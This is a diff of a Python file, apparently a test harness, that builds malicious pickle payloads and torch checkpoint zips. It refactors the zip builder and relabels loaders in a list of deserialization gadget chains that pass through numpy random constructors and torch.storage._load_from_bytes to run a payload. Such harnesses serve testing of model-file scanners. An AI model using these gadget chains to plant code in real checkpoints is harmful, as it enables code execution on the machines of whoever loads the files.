@@ -34,13 +34,18 @@ NP = "numpy.random._pickle"
 LIGHTNING = "pytorch_lightning.utilities.parsing"
 
 
-def inner_zip(m: Path) -> bytes:
-    """A torch zip whose data.pkl runs the payload: what torch.storage._load_from_bytes loads."""
+def small_zip(folder: str, data_pkl: bytes) -> bytes:
+    """A torch zip holding only `<folder>/data.pkl` and its version record."""
     buf = io.BytesIO()
     with zipfile.ZipFile(buf, "w") as archive:
-        archive.writestr("inner/data.pkl", evil_pickle(m))
-        archive.writestr("inner/version", "3\n")
+        archive.writestr(f"{folder}/data.pkl", data_pkl)
+        archive.writestr(f"{folder}/version", "3\n")
     return buf.getvalue()
+
+
+def inner_zip(m: Path) -> bytes:
+    """A torch zip whose data.pkl runs the payload: what torch.storage._load_from_bytes loads."""
+    return small_zip("inner", evil_pickle(m))
 
 
 def ctor(name: str, first: Callable[[Path], bytes], second: bytes) -> Callable[[Path], bytes]:
@@ -230,11 +235,7 @@ def frame_divergent(m: Path) -> bytes:
 
 
 def frame_in_zip(m: Path) -> bytes:
-    buf = io.BytesIO()
-    with zipfile.ZipFile(buf, "w") as archive:
-        archive.writestr("archive/data.pkl", frame_divergent(m))
-        archive.writestr("archive/version", "3\n")
-    return buf.getvalue()
+    return small_zip("archive", frame_divergent(m))
 
 
 def frame_in_tar_storages(m: Path) -> bytes:
@@ -255,9 +256,9 @@ LFB = "torch.storage._load_from_bytes"
 GADGETS = [
     # numpy's ctors call what they are handed
     Payload("numpy-generator-ctor-load-from-bytes", "numpy/random/_pickle.py __generator_ctor + torch/storage.py",
-            _lfb("__generator_ctor"), f"{NP}.__generator_ctor(", loader="pickle"),
+            _lfb("__generator_ctor"), f"{NP}.__generator_ctor(", loader="pickle:torch"),
     Payload("numpy-randomstate-ctor-load-from-bytes", "numpy/random/_pickle.py __randomstate_ctor",
-            _lfb("__randomstate_ctor"), f"{NP}.__randomstate_ctor(", loader="pickle"),
+            _lfb("__randomstate_ctor"), f"{NP}.__randomstate_ctor(", loader="pickle:torch"),
     Payload("numpy-generator-ctor-in-torch-zip", "the gadget inside a training checkpoint",
             in_zip(lambda m: ctor("__generator_ctor", load_from_bytes_arg, global_("torch.storage", "_load_from_bytes"))(m)),
             LFB, loader="torch"),
